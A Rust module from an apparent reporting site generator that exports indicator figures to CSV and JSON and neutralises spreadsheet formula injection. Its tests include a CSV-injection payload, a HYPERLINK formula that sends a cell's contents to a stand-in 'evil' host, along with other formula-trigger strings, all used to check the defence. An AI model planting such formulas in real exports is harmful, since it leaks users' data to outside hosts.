//! The data files: `data/indicators.csv` and `data/indicators.json`, every computed
//! figure for spreadsheets and dashboards, `data/reports/<unit>/<period>.json`, each
//! report's whole model for other tools, and `data/catalog.json`, what the indicators
//! the models name by id are. All are rendered from the report models. Only
//! reported or computed figures appear in the indicator files; a missing figure has no
//! row (not a 0).

use serde_json::{json, Map, Value};

use super::{OutputFile, ReportJob, ReportRenderer};
use crate::analysis::Analysis;
use crate::diag::Diagnostics;
use crate::model::UnitId;
use crate::period::Period;
use crate::report::{Basis, Figure, IndicatorInfo, PeriodInfo};

/// Excel opens a CSV as UTF-8 only when it starts with a byte-order mark.
const BOM: &str = "\u{FEFF}";

/// A report's model as JSON, at `data/reports/<unit's site path>/<period>.json`.
pub struct ModelJson;

impl ReportRenderer for ModelJson {
    fn render(&self, job: &ReportJob, _diags: &mut Diagnostics) -> Vec<OutputFile> {
        let mut path = String::from("data/reports/");
        for seg in &job.model.unit.site_path {
            path.push_str(seg);
            path.push('/');
        }
        path.push_str(&job.model.period.id);
        path.push_str(".json");
        // Compact: a site has a model per report, and pretty-printing would make them
        // two thirds larger; any JSON viewer indents them.
        let mut bytes = serde_json::to_vec(job.model).expect("the model is plain data");
        bytes.push(b'\n');
        vec![OutputFile { path, bytes }]
    }
}

/// What the indicator files list of one report: which it is. Its figures are read from
/// the analysis when the files are written, not held: a site-wide export of every report
/// kept as report figures grew with the site to gigabytes at province scale.
#[derive(Clone)]
pub struct Row {
    pub(super) unit: UnitId,
    pub(super) period: PeriodInfo,
    pub(super) basis: Basis,
    at: Period,
}

impl Row {
    /// The row of the report of `unit` for `at`, if it has one (it has figures), read
    /// from the analysis: no report model is needed to list its figures.
    pub fn at(analysis: &Analysis, unit: UnitId, at: Period) -> Option<Row> {
        let cell = analysis.computed.cell(unit, at)?;
        Some(Row {
            unit,
            period: crate::report::build::period_info(analysis.locale(), at),
            basis: crate::report::build::basis(cell.basis),
            at,
        })
    }

    /// The report's reported or computed figures (a missing one has no row), in catalog
    /// order: each catalog entry's index and value.
    pub(super) fn values<'a>(
        &self,
        analysis: &'a Analysis,
    ) -> impl Iterator<Item = (usize, f64)> + 'a {
        let cell = analysis.computed.cell(self.unit, self.at);
        let values = cell.map_or(&[][..], |c| &c.values[..]);
        values
            .iter()
            .enumerate()
            .filter_map(|(i, v)| v.map(|v| (i, v)))
    }

    /// The report's figures that have a value, with 同比 and 环比, as its model holds them.
    pub(super) fn figures(&self, analysis: &Analysis) -> Vec<Figure> {
        let mut figures = crate::report::build::figures(analysis, self.unit, self.at);
        figures.retain(|f| f.value.is_some());
        figures
    }
}

/// The indicator files from every report's row, listed unit by unit (rows come in the
/// order the units and their periods are listed), handed to `emit` one at a time so only
/// one is held.
pub fn files(analysis: &Analysis, rows: &[Row], emit: &mut dyn FnMut(OutputFile)) {
    emit(catalog(analysis));
    emit(OutputFile {
        path: "data/indicators.csv".into(),
        bytes: csv(analysis, rows).into_bytes(),
    });
    emit(OutputFile {
        path: "data/indicators.json".into(),
        bytes: json(analysis, rows).into_bytes(),
    });
}

/// The export's word for a basis; `halves` predates periods of other lengths and stays
/// for the spreadsheets that read it.
fn basis_word(b: Basis) -> &'static str {
    match b {
        Basis::Own => "own",
        Basis::Parts => "halves",
        Basis::SubUnits => "subunits",
    }
}

/// Full precision, no float noise: 0.9010000000000001 is written 0.901.
fn raw(v: f64) -> String {
    let rounded = (v * 1e9).round() / 1e9;
    let text = format!("{rounded}");
    if text == "-0" {
        "0".into()
    } else {
        text
    }
}

/// Text that a spreadsheet would run as a formula (`=HYPERLINK(…)` typed as a unit name)
/// gets a leading `'`, as OWASP advises for CSV injection: Excel then shows it as text.
/// Numbers such as -5 stay numbers. Every writer of spreadsheet text cells (CSV, .xlsx)
/// goes through this.
pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    if risky {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// Appends `s` to `out` as one CSV field: quoted only when it must be. Written in place:
/// a province's CSV has millions of fields, and a String for each was most of its time.
fn push_csv_field(out: &mut String, s: &str) {
    let s = neutralise_formula(s);
    if s.contains([',', '"', '\n', '\r', '\t', '\'']) {
        out.push('"');
        for (i, part) in s.split('"').enumerate() {
            if i > 0 {
                out.push_str("\"\"");
            }
            out.push_str(part);
        }
        out.push('"');
    } else {
        out.push_str(&s);
    }
}

fn csv(analysis: &Analysis, rows: &[Row]) -> String {
    let project = &analysis.project;
    let pd = project.config.percent_decimals;
    let mut out = String::from(BOM);
    // Headers in words for the people who open it; the id columns stay for machines.
    out.push_str(analysis.locale().words.csv_header);
    out.push_str("\r\n");
    let infos = indicator_infos(analysis);
    for row in rows {
        let u = &project.units[row.unit];
        let path = u.path.join("/");
        for (at, v) in row.values(analysis) {
            let i = &infos[at];
            let fields = [
                path.as_str(),
                &u.name,
                &row.period.id,
                &row.period.label,
                basis_word(row.basis),
                &i.id,
                &i.label,
                &i.unit,
                &raw(v),
                &super::pages::value_text(i, Some(v), pd),
            ];
            for (k, f) in fields.iter().enumerate() {
                if k > 0 {
                    out.push(',');
                }
                push_csv_field(&mut out, f);
            }
            out.push_str("\r\n");
        }
    }
    out
}

/// The catalog's indicators as a report's figures name them, by catalog index.
fn indicator_infos(analysis: &Analysis) -> Vec<IndicatorInfo> {
    let entries = analysis.project.catalog.entries();
    entries
        .iter()
        .map(crate::report::build::indicator_info)
        .collect()
}

/// `data/catalog.json`: every indicator of the catalog as the report models name them
/// (by id), with its words, kind, decimals and roles — written once for the site rather
/// than in every model. Pretty-printed: it is small and people read it.
fn catalog(analysis: &Analysis) -> OutputFile {
    let doc = json!({"indicators": indicator_infos(analysis)});
    let mut text = serde_json::to_string_pretty(&doc).expect("JSON of plain values");
    text.push('\n');
    OutputFile {
        path: "data/catalog.json".into(),
        bytes: text.into_bytes(),
    }
}

/// `data/indicators.json`, pretty-printed; each unit is made into a JSON value on its own
/// and written at its place, so the whole site's figures are never one tree of values.
fn json(analysis: &Analysis, rows: &[Row]) -> String {
    let project = &analysis.project;
    let indicators: Vec<Value> = project
        .catalog
        .entries()
        .iter()
        .map(
            |e| json!({"id": e.id, "label": e.label, "unit": e.unit, "ratio": e.ratio().is_some()}),
        )
        .collect();
    let doc = json!({
        "title": project.config.title,
        "organisation": project.config.organisation,
        "indicators": indicators,
        "units": [],
    });
    let mut out = serde_json::to_string_pretty(&doc).expect("JSON of plain values");
    // "units" is the last key: the empty list closes the document.
    let empty = out.len() - "[]\n}".len();
    if project.units.is_empty() {
        return out + "\n";
    }
    out.truncate(empty);
    out.push('[');
    let mut of_unit: Vec<Vec<&Row>> = vec![Vec::new(); project.units.len()];
    rows.iter().for_each(|r| of_unit[r.unit].push(r));
    for (n, (u, rows)) in project.units.iter().zip(of_unit).enumerate() {
        let unit = unit_json(analysis, u, rows);
        out.push_str(if n == 0 { "\n" } else { ",\n" });
        // Nested two deep in the document: each line indented as the whole would be.
        for (k, line) in serde_json::to_string_pretty(&unit)
            .expect("JSON")
            .lines()
            .enumerate()
        {
            out.push_str(if k == 0 { "    " } else { "\n    " });
            out.push_str(line);
        }
    }
    out.push_str("\n  ]\n}\n");
    out
}

/// One unit of `indicators.json`: its place and every period's figures.
fn unit_json(analysis: &Analysis, u: &crate::model::Unit, rows: Vec<&Row>) -> Value {
    let project = &analysis.project;
    let entries = project.catalog.entries();
    let mut periods = Map::new();
    for row in rows {
        let mut values = Map::new();
        for (at, v) in row.values(analysis) {
            let n: f64 = raw(v).parse().expect("a number");
            values.insert(entries[at].id.clone(), json!(n));
        }
        periods.insert(
            row.period.id.clone(),
            json!({"basis": basis_word(row.basis), "values": values}),
        );
    }
    json!({
        "path": u.path.join("/"),
        "name": u.name,
        "parent": u.parent.map(|p| project.units[p].path.join("/")),
        "periods": periods,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv_field(s: &str) -> String {
        let mut out = String::new();
        push_csv_field(&mut out, s);
        out
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("城关镇"), "城关镇");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
        );
        for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert!(csv_field(risky).starts_with("\"'"), "{risky}");
        }
        assert_eq!(csv_field("-5"), "-5");
        assert_eq!(csv_field("0.25"), "0.25");
    }

    #[test]
    fn raw_numbers_drop_float_noise() {
        // 901 ÷ 1000 computed in floating point prints as 0.901
        assert_eq!(raw(0.1 + 0.2), "0.3");
        assert_eq!(raw(901.0 / 1000.0), "0.901");
        assert_eq!(raw(45.0), "45");
    }
}
